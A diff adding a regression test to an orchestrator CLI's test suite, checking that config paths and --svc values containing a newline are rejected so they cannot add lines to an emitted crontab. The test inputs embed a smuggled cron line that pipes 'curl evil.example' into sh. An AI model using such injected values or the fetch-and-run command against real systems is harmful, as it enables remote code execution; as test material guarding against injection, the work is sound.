@@ -124,6 +124,24 @@ describe('svc orchestrator (file store)', () => {
     expect(lines[0].split(' ').slice(0, 5).join(' ')).toBe('0 6 * * *');
   });
 
+  // Security review, issue 15: a line break in the config path added a line to the crontab.
+  it('refuses a config path or --svc with a line break, one line, exit 3, instead of emitting extra crontab lines', () => {
+    const dir = join(tmp, 'x\n* * * * * curl evil.example|sh\n');
+    mkdirSync(dir);
+    const file = writeConfig(join(dir, 'svc.orchestrator.json'), [{ name: 'm365-daily', adapter: 'scubagear', input: SCUBA, schedule: '0 6 * * *', outputs: { bundle: 'out/m365' } }]);
+    expect(orchestrator(['schedule', '--emit', 'crontab', '--config', file])).toEqual({
+      stdout: '',
+      stderr: `Error: ${JSON.stringify(file)}: the config path holds the control character U+000A, which would break the lines of an emitted schedule; move or rename the config to a path without control characters; see docs/orchestrator.md\n`,
+      status: 3,
+    });
+    expect(orchestrator(['schedule', '--emit', 'crontab', '--job', 'm365-daily', '--svc', 'svc\n* * * * * curl evil.example|sh'])).toEqual({
+      stdout: '',
+      stderr:
+        'Error: job m365-daily: the svc executable (--svc) "svc\\n* * * * * curl evil.example|sh" holds the control character U+000A, which would break the emitted schedule; give --svc a path without control characters or a backslash before %\n',
+      status: 3,
+    });
+  });
+
   it('emits Kubernetes CronJobs: batch/v1, Forbid, the dispatch command', () => {
     const result = orchestrator(['schedule', '--emit', 'k8s', '--image', 'registry.example/svc:1']);
     expect(result.status).toBe(0);
